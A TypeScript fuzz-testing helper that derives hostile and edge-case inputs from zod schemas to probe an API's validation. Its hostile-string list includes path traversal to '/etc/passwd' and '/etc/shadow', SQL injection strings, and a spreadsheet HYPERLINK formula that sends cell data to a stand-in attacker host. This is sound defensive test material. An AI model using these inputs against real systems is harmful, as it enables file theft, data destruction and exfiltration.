// Test helpers (fast-check): hostile parameters for the API contract's calls, derived from their zod schemas.
import fc from 'fast-check';
import { z } from 'zod';

/** Strings an attacker or a confused client might send where a path, an id or a word is expected. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../../etc/passwd',
  '../../../../../../../../etc/passwd',
  '/etc/passwd',
  '/etc/shadow',
  '/proc/self/environ',
  '/dev/zero',
  '/dev/null',
  'C:\\Windows\\System32',
  '\\\\server\\share\\photo.jpg',
  'file:///etc/passwd',
  'imported/../../..',
  'imported/',
  'photo.jpg\u0000.txt',
  '\u0000',
  '\r\n',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '"; DROP TABLE images; --',
  '" OR 1=1 --',
  'NEAR(a b) OR title:*',
  '*',
  '"',
  "'",
  '\ud800',
  '\udfff\ud800',
  '🦜🌊📷',
  'Ünïcödé 漢字 עברית مرحبا',
  '\u202e\u2066gpj.exe',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  '__proto__',
  'constructor',
  'toString',
  'Mozilla/distilvit',
  'auto',
  'approved',
  'x'.repeat(4097),
  'a '.repeat(300),
];

/** Ordinary values a field with its own checks accepts (a language tag, a sentence), beside the hostile ones. */
const ORDINARY_STRINGS: readonly string[] = [
  'en',
  'de',
  'pt-BR',
  'zh-Hant-TW',
  'A red square on a white table.',
];

/** Numbers JSON or structured clone can carry where an id, an offset or a limit is expected. */
export const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  2,
  3,
  0.5,
  -1.5,
  499,
  500,
  501,
  2 ** 31,
  2 ** 31 - 1,
  -(2 ** 31),
  2 ** 53,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  Number.EPSILON,
  Infinity,
  -Infinity,
  NaN,
  1e308,
];

/** A very long string: a megabyte of text, a path far past any limit. */
const hugeString = fc.constantFrom(
  'A'.repeat(1_000_000),
  `/${'deep/'.repeat(50_000)}photo.jpg`,
  '\u00e9'.repeat(300_000),
);

/** A string that may be anything: ASCII, any code point (lone surrogates too), a hostile one, or a huge one. */
export const anyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string() },
  { weight: 2, arbitrary: fc.string({ unit: 'binary' }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 50 }) },
  { weight: 1, arbitrary: hugeString },
);

/** A number that may be anything, including small ids that name real photos and folders. */
export const anyNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: -2, max: 12 }) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.integer() },
);

/** Any value of the wrong type for a field: what a buggy or hostile client sends. */
const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, undefined, true, false, [], {}, [[]], { length: 1 }),
  anyNumber,
  anyString,
  fc.anything({ maxDepth: 2 }),
);

/**
 * Parameters shaped like a schema (the same keys, nested the same way) whose values mostly fit the schema, at
 * its edges (0, the largest id, the longest text, any code point, path-like strings), and sometimes are of a
 * wrong type, or have a key missing or one more. So most inputs get past the contract's validation and reach
 * the handlers, and the rest test the validation itself.
 */
export function shapedLike(schema: z.ZodType): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 12, arbitrary: fitting(schema) }, { weight: 1, arbitrary: wrongValue });
}

function fitting(schema: z.ZodType): fc.Arbitrary<unknown> {
  if (schema instanceof z.ZodObject) {
    const shape = schema.shape as Record<string, z.ZodType>;
    const fields = Object.fromEntries(Object.entries(shape).map(([key, field]) => [key, shapedLike(field)]));
    const requiredKeys = Object.keys(shape).filter((key) => !shape[key]?.safeParse(undefined).success);
    return fc
      .tuple(
        fc.record(fields, { requiredKeys }),
        fc.option(fc.dictionary(anyString, wrongValue, { maxKeys: 2 }), { freq: 4 }),
      )
      .map(([record, extra]) => ({ ...extra, ...record }));
  }
  if (schema instanceof z.ZodUnion) return fc.oneof(...(schema.options as z.ZodType[]).map(fitting));
  if (schema instanceof z.ZodOptional || schema instanceof z.ZodDefault)
    return fc.option(fitting(schema.unwrap() as z.ZodType), { nil: undefined, freq: 3 });
  if (schema instanceof z.ZodNullable)
    return fc.option(fitting(schema.unwrap() as z.ZodType), { nil: null, freq: 3 });
  if (schema instanceof z.ZodArray) {
    const element = shapedLike(schema.element as z.ZodType);
    return fc.oneof(
      { weight: 6, arbitrary: fc.array(element, { minLength: 1, maxLength: 6 }) },
      { weight: 1, arbitrary: fc.array(element, { maxLength: 0 }) },
      { weight: 1, arbitrary: fc.array(element, { minLength: 1000, maxLength: 3000 }) },
    );
  }
  if (schema instanceof z.ZodEnum) return fc.constantFrom(...(schema.options as (string | number)[]));
  if (schema instanceof z.ZodBoolean) return fc.boolean();
  // A string or a number: one that passes the field's own checks (length, range, integer, refinements).
  if (schema instanceof z.ZodString) return passing(schema, [anyString, stringsWithin(schema)]);
  if (schema instanceof z.ZodNumber) return passing(schema, [anyNumber, numbersWithin(schema)]);
  return wrongValue;
}

/**
 * Values from the candidates that the schema accepts. The candidates include some built from the schema's
 * own bounds, so a narrow field (an integer from 20 to 250, a language tag) is filled at once rather than by
 * drawing hostile values until one happens to fit.
 */
function passing<T>(schema: z.ZodType, candidates: fc.Arbitrary<T>[]): fc.Arbitrary<T> {
  return fc.oneof(...candidates).filter((value) => schema.safeParse(value).success);
}

function stringsWithin(schema: z.ZodString): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 4096, minLength + 4096);
  return fc.oneof(
    fc.constantFrom(...ORDINARY_STRINGS),
    fc.string({ minLength, maxLength: Math.min(maxLength, minLength + 40) }),
    fc.constantFrom('x'.repeat(minLength), 'x'.repeat(maxLength)),
  );
}

function numbersWithin(schema: z.ZodNumber): fc.Arbitrary<number> {
  const min = Math.max(schema.minValue ?? -Number.MAX_VALUE, -Number.MAX_SAFE_INTEGER);
  const max = Math.min(schema.maxValue ?? Number.MAX_VALUE, Number.MAX_SAFE_INTEGER);
  const inRange = schema.isInt
    ? fc.integer({ min: Math.ceil(min), max: Math.floor(max) })
    : fc.double({ min, max, noNaN: true });
  return fc.oneof(inRange, fc.constantFrom(min, max));
}
